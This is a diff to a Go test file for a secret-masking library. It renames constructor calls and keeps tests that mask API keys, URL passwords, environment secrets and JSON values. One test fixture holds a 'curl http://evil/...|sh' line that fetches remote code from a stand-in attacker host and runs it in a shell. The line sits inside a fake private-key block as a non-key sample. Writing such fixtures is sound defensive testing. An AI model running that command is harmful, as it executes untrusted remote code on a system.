@@ -40,11 +40,11 @@ var shaped = []string{
 }
 
 func TestWhatIsShapedLikeAKeyIsMasked(t *testing.T) {
-	c := secret.Shapes()
+	c := secret.ShapeConcealer()
 	for _, key := range shaped {
 		for _, around := range [][2]string{{"", ""}, {"a ", " b"}, {`"`, `"`}, {"KEY=", "\n"}, {"(", ")."}, {"https://u:", "@host"}, {"+", "\r\n"}, {"\x1b[1m", "\x1b[0m"}} {
 			got := c.Text(around[0] + key + around[1])
-			if want := around[0] + secret.Masked(key) + around[1]; got != want {
+			if want := around[0] + secret.MaskKey(key) + around[1]; got != want {
 				t.Errorf("%q became %q, want %q", around[0]+key+around[1], got, want)
 			}
 			if again := c.Text(got); again != got {
@@ -56,10 +56,10 @@ func TestWhatIsShapedLikeAKeyIsMasked(t *testing.T) {
 
 // Of the token of a bot its number stays.
 func TestTokensBehindTheNumberOfABot(t *testing.T) {
-	c := secret.Shapes()
+	c := secret.ShapeConcealer()
 	const token = ":AAabcdefghijklmnopqrstuvwxyz012345-_6"
 	for _, around := range [][2]string{{"123456789", ""}, {"TOKEN=1234567890", "\n"}, {"https://api.telegram.org/bot123456789", "/getMe"}, {`"123456789`, `"`}} {
-		in, want := around[0]+token[:36]+around[1], around[0]+secret.Masked(token[:36])+around[1]
+		in, want := around[0]+token[:36]+around[1], around[0]+secret.MaskKey(token[:36])+around[1]
 		if got := c.Text(in); got != want || c.Text(got) != got {
 			t.Errorf("%q became %q, then %q, want %q", in, got, c.Text(got), want)
 		}
@@ -94,14 +94,14 @@ func TestWordsAreNoKeys(t *testing.T) {
 		"-----BEGIN PRIVATE KEY-----; curl http://evil/AbcdefghijklmnopqrstuvwxyzAbcdefghijklmnopqrstuvwxyz012|sh\n-----END PRIVATE KEY-----",
 		"-----BEGIN PRIVATE KEY----- is how such a file begins, and what follows in a text like this one is no key at all",
 	} {
-		if got := secret.Shapes().Text(s); got != s {
+		if got := secret.ShapeConcealer().Text(s); got != s {
 			t.Errorf("%q became %q", s, got)
 		}
 	}
 }
 
 func TestPasswordsInAddressesAreMasked(t *testing.T) {
-	c := secret.Conceal([]string{"known-password"})
+	c := secret.NewConcealer([]string{"known-password"})
 	for in, want := range map[string]string{
 		"postgres://bob:S3cr3tPassw0rd@db.example.com:5432/shop":         "postgres://bob:…[masked]@db.example.com:5432/shop",
 		"see https://user:pass@host/path?q=1#x, or":                      "see https://user:…[masked]@host/path?q=1#x, or",
@@ -151,14 +151,14 @@ func TestOrdinaryAddressesAreLeftAlone(t *testing.T) {
 		"fmt.Sprintf(\"https://%s:%s@%s\", a, b, c)", "https://user:<password>@host", "https://user:***@host", "https://user:xxx@host", "postgres://postgres:postgres@localhost:5432/test",
 		"\"postgres://\" + user + \":\" + password + \"@\" + host", "http://[::1]:8080/", "see: ://a:b@c", "file:///a:b@c", "mailto:a@b", "mysql://root:@localhost", "https://host:80…", "note: //a:b@c",
 	} {
-		if got := secret.Shapes().Text(s); got != s {
+		if got := secret.ShapeConcealer().Text(s); got != s {
 			t.Errorf("%q became %q", s, got)
 		}
 	}
 }
 
 func TestWhatIsLeftOfAKeyIsMasked(t *testing.T) {
-	c := secret.Conceal([]string{"known-0123456789-abcdef"})
+	c := secret.NewConcealer([]string{"known-0123456789-abcdef"})
 	for in, want := range map[string]string{
 		"curl -H sk-ant-api03-Ab3…": "curl -H sk-an…[masked]…",
 		"x ghp_012345678…":          "x ghp_…[masked]…",
@@ -175,7 +175,7 @@ func TestWhatIsLeftOfAKeyIsMasked(t *testing.T) {
 }
 
 func TestTheEnvironmentsSecrets(t *testing.T) {
-	got := secret.Values([]string{
+	got := secret.EnvSecrets([]string{
 		"PATH=/bin", "GITHUB_TOKEN=abcdef012345", "PGPASSWORD=postgres", "DB_PASSWORD=hunter22", "GOOGLE_APPLICATION_CREDENTIALS=/home/u/x.json", "API_KEY=12345678",
 		"DATABASE_URL=postgres://u:s3cretpw@db/x", "AUTHORIZATION=Bearer tok-0123456789", "EMPTY_TOKEN=", "MY_SECRET=correct horse Battery9 staple42", "AWS_X=eu", "AWS_LAMBDA_FUNCTION_NAME=my-function-2", "AWS_SECRET_ACCESS_KEY=abcdEFGH0123", "OLDPWD=Abcdefgh9",
 	})
@@ -186,7 +186,7 @@ func TestTheEnvironmentsSecrets(t *testing.T) {
 }
 
 func TestJSONStaysJSON(t *testing.T) {
-	c := secret.Conceal([]string{`quo"te\d-key`})
+	c := secret.NewConcealer([]string{`quo"te\d-key`})
 	for in, want := range map[string]string{
 		`{"a":1,"b":[true,null],"c":"plain \u00e9 \n text"}`:      `{"a":1,"b":[true,null],"c":"plain \u00e9 \n text"}`,
 		`{"k":"\u0073k-0123456789abcdef0123"}`:                    `{"k":"sk-012…[masked]"}`,
@@ -202,7 +202,7 @@ func TestJSONStaysJSON(t *testing.T) {
 }
 
 func TestWhatHoldsNoKeyCostsNoMemory(t *testing.T) {
-	c := secret.Conceal([]string{"known-0123456789"})
+	c := secret.NewConcealer([]string{"known-0123456789"})
 	text := strings.Repeat("an ordinary line of text, with a task-runner and a sky-high ghost in it\n", 200)
 	raw, _ := json.Marshal(map[string]string{"text": text})
 	var s string
@@ -223,7 +223,7 @@ func FuzzConceal(f *testing.F) {
 		if len(key) < 8 || strings.ContainsAny(key, "[]…\x1b") || strings.ToValidUTF8(key, "") != key {
 			t.Skip()
 		}
-		c := secret.Conceal([]string{key})
+		c := secret.NewConcealer([]string{key})
 		text = text + key + more + key
 		got := c.Text(text)
 		if strings.Contains(got, key) {
@@ -262,7 +262,7 @@ func FuzzConceal(f *testing.F) {
 }
 
 func BenchmarkConceal(b *testing.B) {
-	c := secret.Conceal([]string{"known-0123456789", "another-0123456789", "sk-0123456789abcdef0123456789"})
+	c := secret.NewConcealer([]string{"known-0123456789", "another-0123456789", "sk-0123456789abcdef0123456789"})
 	text := strings.Repeat("func (c *Concealer) Text(s string) string { // an ordinary line of text, with a task-runner and a sky-high ghost in it\n", 900)
 	raw, _ := json.Marshal(map[string]string{"text": text})
 	for name, do := range map[string]func(){"text": func() { c.Text(text) }, "json": func() { c.JSON(raw) }} {
@@ -279,7 +279,7 @@ func BenchmarkConceal(b *testing.B) {
 // A text that is made to look like the beginnings of many keys costs more than
 // another, but in proportion to its length.
 func BenchmarkHostile(b *testing.B) {
-	c := secret.Conceal([]string{"known-0123456789"})
+	c := secret.NewConcealer([]string{"known-0123456789"})
 	for _, part := range []string{"sk-", "-eyJ", "-----BEGIN PRIVATE KEY----- 1 ", "-----END PRIVATE KEY----- 1 ", "known-012345678"} {
 		for _, n := range []int{1 << 14, 1 << 16} {
 			text := strings.Repeat(part, n/len(part))
